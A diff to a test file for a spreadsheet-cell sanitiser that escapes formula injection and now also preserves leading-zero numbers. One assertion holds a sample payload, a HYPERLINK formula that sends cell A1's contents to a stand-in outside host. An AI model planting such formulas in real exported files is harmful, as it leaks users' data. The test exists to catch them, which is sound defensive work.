@@ -19,7 +19,10 @@ testAll(
 test('no cell begins a formula, and each is read as what was written', () => {
   expect(cellOf('=HYPERLINK("https://elsewhere.example/?"&A1)')).toBe('\'=HYPERLINK("https://elsewhere.example/?"&A1)');
   expect(cellOf('Rui = rohu')).toBe('Rui = rohu');
-  const begin = fc.stringMatching(/^['=+@＝－-]{0,3}$/);
+  // Else a spreadsheet makes 1711000101 of it.
+  expect(cellOf('01711000101')).toBe("'01711000101");
+  for (const number of ['0', '0.5', '10']) expect(cellOf(number)).toBe(number);
+  const begin = fc.stringMatching(/^['=+@＝－-]{0,3}0?\d?$/);
   forAll(begin, fc.string(), (start, end) => {
     const text = start + end;
     expect(cellOf(text)).not.toMatch(/^[=+\-@＝＋－＠]/);
